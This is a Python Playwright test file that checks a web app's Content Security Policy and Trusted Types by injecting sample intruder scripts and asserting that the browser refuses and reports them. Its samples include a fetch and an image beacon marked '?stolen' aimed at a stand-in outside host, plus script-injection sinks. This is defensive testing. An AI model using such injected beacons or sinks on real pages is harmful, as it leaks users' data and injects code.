"""Nobody who slips text into a page can run it or carry something away, and the watch over all other tests hears it."""

from __future__ import annotations

from typing import Final

import pytest
from playwright.sync_api import Error, expect

from tests.e2e.conftest import Hire, OpenBrowser
from tests.e2e.screens import Screen

MOMENT_MS, MOST_MOMENTS = 100, 50  # the browser tells of a refusal in its own time
ELSEWHERE: Final = "https://stranger.example/"
# What an intruder in the page would try, and the directive that refuses it.
ATTEMPTS: Final = {
    "connect-src": f"fetch('{ELSEWHERE}').catch(() => 0)",
    "img-src": f"new Image().src = '{ELSEWHERE}?stolen'",
    "style-src-elem": "document.head.append(Object.assign(document.createElement('style'), {textContent: 'p {}'}))",
    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), {src: '/'}))",
    "form-action": "const form = document.createElement('form'); document.body.append(form); form.submit()",
    "base-uri": f"document.head.append(Object.assign(document.createElement('base'), {{href: '{ELSEWHERE}'}}))",
}
SINKS: Final = (
    "document.body.innerHTML = '<p>'",
    "document.write('<p>')",
    "document.createElement('p').setAttribute('onclick', '1')",
    "document.createElement('script').text = '1'",
    "document.createElement('script').src = '/assets/other.js'",
)


@pytest.fixture(scope="module")
def screen(hire: Hire, open_browser: OpenBrowser) -> Screen:
    screen = open_browser(hire("salome-audran"))
    screen.page.goto(screen.url)
    expect(screen.page.get_by_role("heading", name="Se connecter")).to_be_visible()
    return screen


@pytest.mark.parametrize("directive", ATTEMPTS)
def test_what_an_intruder_tries_is_refused_and_heard(screen: Screen, directive: str) -> None:
    screen.page.evaluate(f"() => {{ {ATTEMPTS[directive]} }}")
    assert told(screen, f"watched violation: {directive} ")


@pytest.mark.parametrize("sink", SINKS)
def test_a_text_does_not_become_a_page_or_a_script(screen: Screen, sink: str) -> None:
    with pytest.raises(Error, match="This document requires 'Trusted"):
        screen.page.evaluate(f"() => {{ {sink} }}")
    assert told(screen, "watched violation: require-trusted-types-for ")


def told(screen: Screen, refusal: str) -> bool:
    """Whether the watch heard of it; everything that this attempt makes it say is then said."""
    heard: list[str] = []
    for _ in range(MOST_MOMENTS):
        screen.page.wait_for_timeout(MOMENT_MS)
        heard += (news := screen.watch.told())
        if not news and any(refusal in complaint for complaint in heard):
            return True
    return False
